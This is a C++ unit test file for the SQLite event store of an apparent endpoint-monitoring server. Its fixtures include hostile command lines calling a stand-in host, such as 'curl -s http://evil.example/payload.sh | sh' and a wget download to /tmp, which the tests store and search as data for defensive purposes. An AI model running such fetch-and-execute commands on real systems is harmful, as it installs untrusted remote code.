@@ -1,0 +1,573 @@
+// Unit tests of the SQLite store: round trips, exactly-once ingest, group commit under
+// concurrency, FTS, retention, tokens, agents and schema versioning, on temporary files.
+#include <google/protobuf/util/message_differencer.h>
+#include <gtest/gtest.h>
+#include <sqlite3.h>
+#include <unistd.h>
+
+#include <filesystem>
+#include <memory>
+#include <string>
+#include <thread>
+#include <vector>
+
+#include "common/time.hpp"
+#include "server/store/store.hpp"
+
+namespace vigil::store {
+namespace {
+
+namespace fs = std::filesystem;
+using google::protobuf::util::MessageDifferencer;
+
+class StoreTest : public ::testing::Test {
+ protected:
+  void SetUp() override {
+    dir_ = fs::temp_directory_path() /
+           ("vigil-store-test-" + std::to_string(::getpid()) + "-" +
+            ::testing::UnitTest::GetInstance()->current_test_info()->name());
+    fs::remove_all(dir_);
+    fs::create_directories(dir_);
+    path_ = dir_ / "vigil.db";
+  }
+  void TearDown() override { fs::remove_all(dir_); }
+
+  std::unique_ptr<Store> Open(bool sync_full = false) {
+    auto store = OpenSqliteStore(SqliteOptions{path_, sync_full});
+    EXPECT_TRUE(store.has_value()) << (store ? "" : store.error().message);
+    return store ? std::move(*store) : nullptr;
+  }
+
+  // Runs SQL directly on the database file; returns the first column of every row.
+  std::vector<std::string> Sql(const std::string& sql) {
+    sqlite3* db = nullptr;
+    EXPECT_EQ(sqlite3_open(path_.c_str(), &db), SQLITE_OK);
+    std::vector<std::string> rows;
+    sqlite3_stmt* stmt = nullptr;
+    EXPECT_EQ(sqlite3_prepare_v2(db, sql.c_str(), -1, &stmt, nullptr), SQLITE_OK)
+        << sqlite3_errmsg(db);
+    int rc;
+    while ((rc = sqlite3_step(stmt)) == SQLITE_ROW) {
+      const auto* text = sqlite3_column_text(stmt, 0);
+      rows.emplace_back(text ? reinterpret_cast<const char*>(text) : "NULL");
+    }
+    EXPECT_EQ(rc, SQLITE_DONE) << sql << ": " << sqlite3_errmsg(db);
+    sqlite3_finalize(stmt);
+    sqlite3_close(db);
+    return rows;
+  }
+
+  std::vector<v1::Event> Query(Store& store, EventQuery q) {
+    std::vector<v1::Event> out;
+    auto r = store.QueryEvents(q, [&](v1::Event&& e) {
+      out.push_back(std::move(e));
+      return true;
+    });
+    EXPECT_TRUE(r.has_value()) << (r ? "" : r.error().message);
+    return out;
+  }
+
+  fs::path dir_;
+  fs::path path_;
+};
+
+v1::Event ProcessEvent(std::int64_t ts, const std::string& host, const std::string& cmdline) {
+  v1::Event e;
+  e.set_timestamp(ts);
+  e.set_event_category("process");
+  e.set_event_type("start");
+  e.set_event_action("exec");
+  e.set_host_id("id-" + host);
+  e.set_host_name(host);
+  e.set_process_entity_id("ent-" + std::to_string(ts));
+  e.set_process_pid(4242);
+  e.set_process_name("bash");
+  e.set_process_executable("/usr/bin/bash");
+  e.set_process_command_line(cmdline);
+  e.add_process_args("bash");
+  e.add_process_args("-c");
+  e.add_process_args("echo \"quoted\" \\ back\nslash\ttab \x01 caf\xc3\xa9");
+  e.set_process_args_count(3);
+  e.set_vigil_process_args_truncated(true);
+  e.set_process_hash_sha256(std::string(64, 'a'));
+  e.set_process_parent_command_line("/usr/sbin/sshd -D");
+  e.set_process_start(ts - 5);
+  e.set_process_exit_code(-1);
+  return e;
+}
+
+v1::Event NetworkEvent(std::int64_t ts, const std::string& host) {
+  v1::Event e;
+  e.set_timestamp(ts);
+  e.set_event_category("network");
+  e.set_host_id("id-" + host);
+  e.set_host_name(host);
+  e.set_source_ip("10.0.0.5");
+  e.set_source_port(51234);
+  e.set_destination_ip("2001:db8::1");
+  e.set_destination_port(443);
+  e.set_vigil_destination_external(false);
+  (*e.mutable_extra())["sysmon.RuleName"] = "technique_id=T1071";
+  (*e.mutable_extra())["weird \"key\""] = "va\\lue\n";
+  return e;
+}
+
+v1::Event DnsEvent(std::int64_t ts, const std::string& host) {
+  v1::Event e;
+  e.set_timestamp(ts);
+  e.set_event_category("dns");
+  e.set_host_name(host);
+  e.set_dns_question_name("example.org");
+  e.add_dns_resolved_ip("93.184.216.34");
+  e.add_dns_resolved_ip("2606:2800:220:1::");
+  return e;
+}
+
+v1::Event FileEvent(std::int64_t ts, const std::string& host, const std::string& path) {
+  v1::Event e;
+  e.set_timestamp(ts);
+  e.set_event_category("file");
+  e.set_host_id("id-" + host);
+  e.set_host_name(host);
+  e.set_file_path(path);
+  e.set_file_size(1234567890123);
+  return e;
+}
+
+// An EventQuery with the given changes from the defaults.
+EventQuery Q(std::size_t limit = 100, bool newest_first = true) {
+  EventQuery q;
+  q.limit = limit;
+  q.newest_first = newest_first;
+  return q;
+}
+
+IngestBatch Batch(std::string agent, std::uint64_t epoch, std::uint64_t first,
+                  std::vector<v1::Event> events) {
+  return IngestBatch{std::move(agent), epoch, first, std::move(events)};
+}
+
+std::vector<v1::Event> Simple(int n, std::int64_t ts0) {
+  std::vector<v1::Event> events;
+  for (int i = 0; i < n; ++i)
+    events.push_back(FileEvent(ts0 + i, "h", "/tmp/f" + std::to_string(i)));
+  return events;
+}
+
+TEST_F(StoreTest, RoundTripsEveryFieldTypeAcrossCategories) {
+  auto store = Open();
+  std::vector<v1::Event> events = {ProcessEvent(1000, "alpha", "bash -c 'curl http://x | sh'"),
+                                   NetworkEvent(2000, "alpha"), DnsEvent(3000, "beta"),
+                                   FileEvent(4000, "beta", "/etc/cron.d/evil")};
+  std::vector<IngestBatch> batches = {Batch("agent-1", 7, 100, events)};
+  auto appended = store->Append(batches);
+  ASSERT_TRUE(appended) << appended.error().message;
+  ASSERT_EQ(appended->size(), 1u);
+  EXPECT_EQ((*appended)[0].stored, 4u);
+  EXPECT_EQ((*appended)[0].duplicates, 0u);
+  EXPECT_EQ((*appended)[0].rejected, 0u);
+  EXPECT_EQ((*appended)[0].committed_sequence, 103u);
+
+  auto got = Query(*store, Q(0, false));
+  ASSERT_EQ(got.size(), 4u);
+  for (std::size_t i = 0; i < got.size(); ++i) {
+    v1::Event want = events[i];
+    want.set_event_sequence(static_cast<std::int64_t>(100 + i));
+    ASSERT_TRUE(got[i].has_event_ingested());
+    EXPECT_GT(got[i].event_ingested(), 0);
+    want.set_event_ingested(got[i].event_ingested());
+    std::string diff;
+    MessageDifferencer differ;
+    differ.ReportDifferencesToString(&diff);
+    EXPECT_TRUE(differ.Compare(want, got[i])) << "event " << i << ": " << diff;
+  }
+  // Newest first, one category, a host, a time range, a limit.
+  auto newest = Query(*store, Q(2));
+  ASSERT_EQ(newest.size(), 2u);
+  EXPECT_EQ(newest[0].timestamp(), 4000);
+  EXPECT_EQ(newest[1].timestamp(), 3000);
+  auto dns = Query(*store, [] {
+    auto q = Q();
+    q.category = schema::Category::Dns;
+    return q;
+  }());
+  ASSERT_EQ(dns.size(), 1u);
+  EXPECT_EQ(dns[0].dns_resolved_ip_size(), 2);
+  EXPECT_EQ(Query(*store,
+                  [] {
+                    auto q = Q();
+                    q.host = "beta";
+                    return q;
+                  }())
+                .size(),
+            2u);  // by host.name
+  EXPECT_EQ(Query(*store,
+                  [] {
+                    auto q = Q();
+                    q.host = "id-alpha";
+                    return q;
+                  }())
+                .size(),
+            2u);  // by host.id
+  EXPECT_EQ(Query(*store,
+                  [] {
+                    auto q = Q();
+                    q.since_ns = 2000;
+                    q.until_ns = 4000;
+                    return q;
+                  }())
+                .size(),
+            2u);
+  auto stopped = 0;
+  ASSERT_TRUE(store->QueryEvents(EventQuery{}, [&](v1::Event&&) { return ++stopped < 3; }));
+  EXPECT_EQ(stopped, 3);
+  EXPECT_EQ(*store->CountEvents(std::nullopt), 4u);
+  EXPECT_EQ(*store->CountEvents(schema::Category::Process), 1u);
+  // Lists are JSON arrays in their column.
+  EXPECT_EQ(Sql("SELECT dns_resolved_ip FROM dns"),
+            std::vector<std::string>{R"(["93.184.216.34","2606:2800:220:1::"])"});
+}
+
+TEST_F(StoreTest, MissingTimestampGetsIngestTimeAndUnknownCategoryIsRejected) {
+  auto store = Open();
+  v1::Event no_ts;
+  no_ts.set_event_category("host");
+  v1::Event no_category;
+  no_category.set_timestamp(5);
+  v1::Event bad_category;
+  bad_category.set_event_category("bogus");
+  const std::int64_t before = NowNs();
+  auto r = store->Append(std::vector{Batch("a", 1, 1, {no_ts, no_category, bad_category})});
+  ASSERT_TRUE(r);
+  EXPECT_EQ((*r)[0].stored, 1u);
+  EXPECT_EQ((*r)[0].rejected, 2u);
+  EXPECT_EQ((*r)[0].committed_sequence, 3u);
+  auto got = Query(*store, EventQuery{});
+  ASSERT_EQ(got.size(), 1u);
+  EXPECT_GE(got[0].timestamp(), before);
+}
+
+TEST_F(StoreTest, DeduplicatesPerAgentAndEpoch) {
+  auto store = Open();
+  auto first = store->Append(std::vector{Batch("agent-1", 1, 1, Simple(10, 100))});
+  ASSERT_TRUE(first);
+  EXPECT_EQ((*first)[0].stored, 10u);
+  EXPECT_EQ((*first)[0].committed_sequence, 10u);
+
+  auto again = store->Append(std::vector{Batch("agent-1", 1, 1, Simple(10, 100))});
+  ASSERT_TRUE(again);
+  EXPECT_EQ((*again)[0].stored, 0u);
+  EXPECT_EQ((*again)[0].duplicates, 10u);
+  EXPECT_EQ((*again)[0].committed_sequence, 10u);
+
+  // Overlap: sequences 6..15, of which 11..15 are new.
+  auto overlap = store->Append(std::vector{Batch("agent-1", 1, 6, Simple(10, 200))});
+  ASSERT_TRUE(overlap);
+  EXPECT_EQ((*overlap)[0].stored, 5u);
+  EXPECT_EQ((*overlap)[0].duplicates, 5u);
+  EXPECT_EQ((*overlap)[0].committed_sequence, 15u);
+  auto tail = Query(*store, Q(5));
+  ASSERT_EQ(tail.size(), 5u);
+  EXPECT_EQ(tail[0].timestamp(), 209);
+  EXPECT_EQ(tail[0].event_sequence(), 15);
+  EXPECT_EQ(tail[4].timestamp(), 205);
+
+  // Another epoch or another agent starts over; two batches of one call see each other.
+  auto other = store->Append(std::vector{Batch("agent-1", 2, 1, Simple(3, 300)),
+                                         Batch("agent-2", 1, 1, Simple(3, 400)),
+                                         Batch("agent-2", 1, 2, Simple(3, 500))});
+  ASSERT_TRUE(other);
+  EXPECT_EQ((*other)[0].stored, 3u);
+  EXPECT_EQ((*other)[1].stored, 3u);
+  EXPECT_EQ((*other)[2].stored, 1u);
+  EXPECT_EQ((*other)[2].duplicates, 2u);
+  EXPECT_EQ((*other)[2].committed_sequence, 4u);
+  EXPECT_EQ(*store->CommittedSequence("agent-1", 1), 15u);
+  EXPECT_EQ(*store->CommittedSequence("agent-1", 2), 3u);
+  EXPECT_EQ(*store->CommittedSequence("agent-2", 1), 4u);
+  EXPECT_EQ(*store->CommittedSequence("nobody", 1), 0u);
+  EXPECT_EQ(*store->CountEvents(std::nullopt), 22u);
+}
+
+TEST_F(StoreTest, UnsequencedBatchesAreNeverDeduplicated) {
+  auto store = Open();
+  for (int i = 0; i < 2; ++i) {
+    auto r = store->Append(std::vector{Batch("", 0, 0, Simple(7, 100))});
+    ASSERT_TRUE(r);
+    EXPECT_EQ((*r)[0].stored, 7u);
+    EXPECT_EQ((*r)[0].duplicates, 0u);
+  }
+  EXPECT_EQ(*store->CountEvents(schema::Category::File), 14u);
+}
+
+TEST_F(StoreTest, ConcurrentAppendsAreExactlyOnce) {
+  auto store = Open(/*sync_full=*/true);
+  constexpr int kThreads = 8, kBatches = 40, kPerBatch = 25;
+  std::vector<std::thread> threads;
+  std::atomic<int> failures{0};
+  for (int t = 0; t < kThreads; ++t) {
+    threads.emplace_back([&, t] {
+      const std::string agent = "agent-" + std::to_string(t);
+      for (int b = 0; b < kBatches; ++b) {
+        const auto first = static_cast<std::uint64_t>(b * kPerBatch + 1);
+        auto batch = Batch(agent, 1, first, Simple(kPerBatch, t * 100000 + b * kPerBatch));
+        // Every other batch is sent twice (a lost ack): the resend must store nothing.
+        for (int send = 0; send < (b % 2 ? 2 : 1); ++send) {
+          auto r = store->Append(std::span<const IngestBatch>(&batch, 1));
+          if (!r || (*r)[0].stored != (send == 0 ? kPerBatch : 0u) ||
+              (*r)[0].committed_sequence != first + kPerBatch - 1)
+            ++failures;
+        }
+      }
+    });
+  }
+  for (auto& th : threads) th.join();
+  EXPECT_EQ(failures.load(), 0);
+  EXPECT_EQ(*store->CountEvents(std::nullopt),
+            static_cast<std::uint64_t>(kThreads * kBatches * kPerBatch));
+  for (int t = 0; t < kThreads; ++t)
+    EXPECT_EQ(*store->CommittedSequence("agent-" + std::to_string(t), 1),
+              static_cast<std::uint64_t>(kBatches * kPerBatch));
+}
+
+TEST_F(StoreTest, DataSurvivesReopen) {
+  {
+    auto store = Open(true);
+    ASSERT_TRUE(store->Append(std::vector{Batch("a", 1, 1, Simple(12, 100))}));
+    ASSERT_TRUE(store->RegisterAgent("a", "alpha"));
+  }
+  auto store = Open(true);
+  EXPECT_EQ(*store->CountEvents(std::nullopt), 12u);
+  EXPECT_EQ(*store->CommittedSequence("a", 1), 12u);
+  EXPECT_TRUE(*store->AgentExists("a"));
+  auto r = store->Append(std::vector{Batch("a", 1, 1, Simple(13, 100))});
+  ASSERT_TRUE(r);
+  EXPECT_EQ((*r)[0].stored, 1u);
+}
+
+TEST_F(StoreTest, TrigramIndexFindsSubstrings) {
+  auto store = Open();
+  ASSERT_TRUE(store->Append(
+      std::vector{Batch("", 0, 0,
+                        {ProcessEvent(1, "h", "curl -s http://evil.example/payload.sh | sh"),
+                         ProcessEvent(2, "h", "/usr/bin/python3 -m http.server 8000"),
+                         ProcessEvent(3, "h", "wget http://evil.example/x -O /tmp/x"),
+                         FileEvent(4, "h", "/var/tmp/.hidden/evil.so")})}));
+  EXPECT_EQ(Sql("SELECT rowid FROM process_fts WHERE process_fts MATCH '\"evil.example\"' "
+                "ORDER BY rowid"),
+            (std::vector<std::string>{"1", "3"}));
+  EXPECT_EQ(Sql("SELECT p.process_command_line FROM process_fts f JOIN process p ON p.id = "
+                "f.rowid WHERE f.process_command_line MATCH '\"http.serv\"'"),
+            std::vector<std::string>{"/usr/bin/python3 -m http.server 8000"});
+  // Parent command lines are indexed too, and the file table has its own index over file.path.
+  EXPECT_EQ(Sql("SELECT count(*) FROM process_fts WHERE process_fts MATCH '\"sshd -D\"'"),
+            std::vector<std::string>{"3"});
+  EXPECT_EQ(Sql("SELECT rowid FROM file_fts WHERE file_fts MATCH '\".hidden/\"'"),
+            std::vector<std::string>{"1"});
+  EXPECT_TRUE(
+      Sql("SELECT rowid FROM process_fts WHERE process_fts MATCH '\"no such text\"'").empty());
+}
+
+TEST_F(StoreTest, RetentionByAgeKeepsFtsConsistent) {
+  auto store = Open();
+  const std::int64_t now = NowNs();
+  const std::int64_t hour = 3600LL * 1000000000LL;
+  std::vector<v1::Event> events;
+  for (int i = 0; i < 30; ++i)  // 30 old (2 days) and 20 recent process events
+    events.push_back(ProcessEvent(now - 48 * hour + i, "h", "old-command " + std::to_string(i)));
+  for (int i = 0; i < 20; ++i)
+    events.push_back(ProcessEvent(now - hour + i, "h", "new-command " + std::to_string(i)));
+  events.push_back(FileEvent(now - 72 * hour, "h", "/old/file"));
+  ASSERT_TRUE(store->Append(std::vector{Batch("", 0, 0, events)}));
+
+  auto r = store->ApplyRetention(RetentionPolicy{24 * hour, 0});
+  ASSERT_TRUE(r) << r.error().message;
+  EXPECT_EQ(r->deleted_events, 31u);
+  EXPECT_GT(r->bytes_after, 0u);
+  EXPECT_EQ(*store->CountEvents(std::nullopt), 20u);
+  EXPECT_TRUE(
+      Sql("SELECT rowid FROM process_fts WHERE process_fts MATCH '\"old-command\"'").empty());
+  EXPECT_EQ(Sql("SELECT count(*) FROM process_fts WHERE process_fts MATCH '\"new-command\"'"),
+            std::vector<std::string>{"20"});
+  EXPECT_TRUE(Sql("SELECT rowid FROM file_fts WHERE file_fts MATCH '\"/old/\"'").empty());
+  // The index agrees with its content table.
+  Sql("INSERT INTO process_fts(process_fts) VALUES('integrity-check')");
+  Sql("INSERT INTO file_fts(file_fts) VALUES('integrity-check')");
+}
+
+TEST_F(StoreTest, RetentionBySizeDeletesOldestUntilUnderTheBound) {
+  auto store = Open();
+  std::int64_t ts = 1'000'000;
+  for (int b = 0; b < 20; ++b) {
+    std::vector<v1::Event> events;
+    for (int i = 0; i < 500; ++i, ++ts) {
+      if (i % 2)
+        events.push_back(ProcessEvent(ts, "h",
+                                      "/usr/bin/some-tool --flag=" + std::to_string(ts) +
+                                          " --padding " + std::string(100, 'p')));
+      else
+        events.push_back(NetworkEvent(ts, "h"));
+    }
+    ASSERT_TRUE(store->Append(std::vector{Batch("", 0, 0, events)}));
+  }
+  const std::int64_t newest = ts - 1;
+  auto before = store->ApplyRetention(RetentionPolicy{});
+  ASSERT_TRUE(before);
+  EXPECT_EQ(before->deleted_events, 0u);
+  const std::uint64_t bound = before->bytes_after / 2;
+
+  auto r = store->ApplyRetention(RetentionPolicy{0, bound});
+  ASSERT_TRUE(r) << r.error().message;
+  EXPECT_LE(r->bytes_after, bound);
+  EXPECT_GT(r->deleted_events, 0u);
+  const auto left = *store->CountEvents(std::nullopt);
+  EXPECT_EQ(left + r->deleted_events, 10000u);
+  EXPECT_GT(left, 1000u);  // it did not throw everything away
+  // The newest events are kept, the oldest are gone, and whatever remains is contiguous.
+  auto newest_first = Query(*store, Q(1));
+  ASSERT_EQ(newest_first.size(), 1u);
+  EXPECT_EQ(newest_first[0].timestamp(), newest);
+  auto oldest = Query(*store, Q(1, false));
+  ASSERT_EQ(oldest.size(), 1u);
+  EXPECT_EQ(oldest[0].timestamp(), newest - static_cast<std::int64_t>(left) + 1);
+  // FTS rows of deleted events are gone.
+  EXPECT_EQ(
+      Sql("SELECT count(*) FROM process_fts WHERE process_fts MATCH '\"some-tool\"'"),
+      std::vector<std::string>{std::to_string(*store->CountEvents(schema::Category::Process))});
+  Sql("INSERT INTO process_fts(process_fts) VALUES('integrity-check')");
+  // The file shrank (incremental vacuum + WAL truncation).
+  EXPECT_LE(fs::file_size(path_), before->bytes_after);
+}
+
+TEST_F(StoreTest, EnrollmentTokensAreSingleUseAndExpire) {
+  auto store = Open();
+  auto token = store->CreateEnrollmentToken(3600LL * 1000000000LL);
+  ASSERT_TRUE(token);
+  EXPECT_EQ(token->size(), 64u);
+  // Only the hash is stored.
+  EXPECT_TRUE(Sql("SELECT sha256 FROM enrollment_tokens WHERE sha256 = '" + *token + "'").empty());
+  EXPECT_TRUE(store->ConsumeEnrollmentToken(*token));
+  auto again = store->ConsumeEnrollmentToken(*token);
+  ASSERT_FALSE(again);
+  EXPECT_EQ(again.error().message, "enrollment token already used");
+  auto unknown = store->ConsumeEnrollmentToken("deadbeef");
+  ASSERT_FALSE(unknown);
+  EXPECT_EQ(unknown.error().message, "unknown enrollment token");
+  auto expired = store->CreateEnrollmentToken(-1);
+  ASSERT_TRUE(expired);
+  auto late = store->ConsumeEnrollmentToken(*expired);
+  ASSERT_FALSE(late);
+  EXPECT_EQ(late.error().message, "enrollment token expired");
+}
+
+TEST_F(StoreTest, ConcurrentConsumersOfOneTokenHaveOneWinner) {
+  auto store = Open();
+  auto token = store->CreateEnrollmentToken(3600LL * 1000000000LL);
+  ASSERT_TRUE(token);
+  std::atomic<int> wins{0};
+  std::vector<std::thread> threads;
+  for (int i = 0; i < 8; ++i)
+    threads.emplace_back([&] {
+      if (store->ConsumeEnrollmentToken(*token)) ++wins;
+    });
+  for (auto& t : threads) t.join();
+  EXPECT_EQ(wins.load(), 1);
+}
+
+TEST_F(StoreTest, ApiTokensCarryTheirRole) {
+  auto store = Open();
+  for (Role role : {Role::Viewer, Role::Analyst, Role::Admin}) {
+    auto secret = store->CreateApiToken("ci", role);
+    ASSERT_TRUE(secret);
+    auto verified = store->VerifyApiToken(*secret);
+    ASSERT_TRUE(verified);
+    EXPECT_EQ(*verified, role);
+  }
+  auto bad = store->VerifyApiToken("nope");
+  ASSERT_FALSE(bad);
+  EXPECT_EQ(bad.error().message, "unknown API token");
+  EXPECT_EQ(RoleName(Role::Analyst), "analyst");
+  EXPECT_EQ(ParseRole("admin"), Role::Admin);
+  EXPECT_EQ(ParseRole("root"), std::nullopt);
+}
+
+TEST_F(StoreTest, AgentsTrackHelloStatusAndCounters) {
+  auto store = Open();
+  EXPECT_FALSE(*store->AgentExists("a1"));
+  ASSERT_TRUE(store->RegisterAgent("a1", "alpha"));
+  EXPECT_TRUE(*store->AgentExists("a1"));
+  HostRecord hello;
+  hello.host_id = "hid-1";
+  hello.hostname = "alpha.example";
+  hello.os = "Debian 12";
+  hello.agent_version = "0.1.0";
+  hello.sensor_kind = "ebpf";
+  ASSERT_TRUE(store->UpdateAgentHello("a1", hello));
+  EXPECT_FALSE(store->UpdateAgentHello("ghost", hello));
+  ASSERT_TRUE(store->UpdateAgentStatus("a1", AgentStatusUpdate{5, 7, 0, 0, ""}));
+  ASSERT_TRUE(store->CountRejectedBatch("a1", 11));
+  v1::Event bad;
+  bad.set_timestamp(1);
+  auto events = Simple(4, 10);
+  events.push_back(bad);
+  ASSERT_TRUE(store->Append(std::vector{Batch("a1", 1, 1, events)}));
+  auto hosts = store->ListHosts();
+  ASSERT_TRUE(hosts);
+  ASSERT_EQ(hosts->size(), 1u);
+  const HostRecord& h = (*hosts)[0];
+  EXPECT_EQ(h.agent_id, "a1");
+  EXPECT_EQ(h.host_id, "hid-1");
+  EXPECT_EQ(h.hostname, "alpha.example");
+  EXPECT_EQ(h.os, "Debian 12");
+  EXPECT_EQ(h.agent_version, "0.1.0");
+  EXPECT_EQ(h.sensor_kind, "ebpf");
+  EXPECT_GT(h.enrolled_ns, 0);
+  EXPECT_GE(h.last_seen_ns, h.enrolled_ns);
+  EXPECT_EQ(h.events_received, 4u);
+  EXPECT_EQ(h.events_dropped, 5u + 7u + 11u + 1u);
+  EXPECT_EQ(h.batches_rejected, 1u);
+}
+
+TEST_F(StoreTest, OlderSchemaIsMigratedByAddingColumns) {
+  {
+    auto store = Open();
+    ASSERT_TRUE(store->Append(std::vector{Batch("", 0, 0, {ProcessEvent(1, "h", "ls -la")})}));
+  }
+  // Make it look like a version-0 database from before process.exit_code and dns.answers.
+  Sql("ALTER TABLE process DROP COLUMN process_exit_code");
+  Sql("ALTER TABLE dns DROP COLUMN dns_answers");
+  Sql("PRAGMA user_version = 0");
+  EXPECT_TRUE(Sql("SELECT name FROM pragma_table_info('process') WHERE name = 'process_exit_code'")
+                  .empty());
+  auto store = Open();
+  ASSERT_TRUE(store);
+  EXPECT_EQ(Sql("PRAGMA user_version"),
+            std::vector<std::string>{std::to_string(schema::kSchemaVersion)});
+  EXPECT_EQ(
+      Sql("SELECT count(*) FROM pragma_table_info('process') WHERE name = 'process_exit_code'"),
+      std::vector<std::string>{"1"});
+  EXPECT_EQ(Sql("SELECT count(*) FROM pragma_table_info('dns') WHERE name = 'dns_answers'"),
+            std::vector<std::string>{"1"});
+  auto got = Query(*store, EventQuery{});
+  ASSERT_EQ(got.size(), 1u);
+  EXPECT_EQ(got[0].process_command_line(), "ls -la");
+  EXPECT_FALSE(got[0].has_process_exit_code());
+  ASSERT_TRUE(store->Append(std::vector{Batch("", 0, 0, {ProcessEvent(2, "h", "id")})}));
+  EXPECT_EQ(Query(*store, Q(1))[0].process_exit_code(), -1);
+}
+
+TEST_F(StoreTest, NewerSchemaIsRefused) {
+  { Open(); }
+  Sql("PRAGMA user_version = " + std::to_string(schema::kSchemaVersion + 1));
+  auto store = OpenSqliteStore(SqliteOptions{path_, true});
+  ASSERT_FALSE(store);
+  EXPECT_NE(
+      store.error().message.find("schema version " + std::to_string(schema::kSchemaVersion + 1) +
+                                 " is newer than this server's"),
+      std::string::npos)
+      << store.error().message;
+  EXPECT_NE(store.error().message.find(path_.string()), std::string::npos);
+}
+
+}  // namespace
+}  // namespace vigil::store
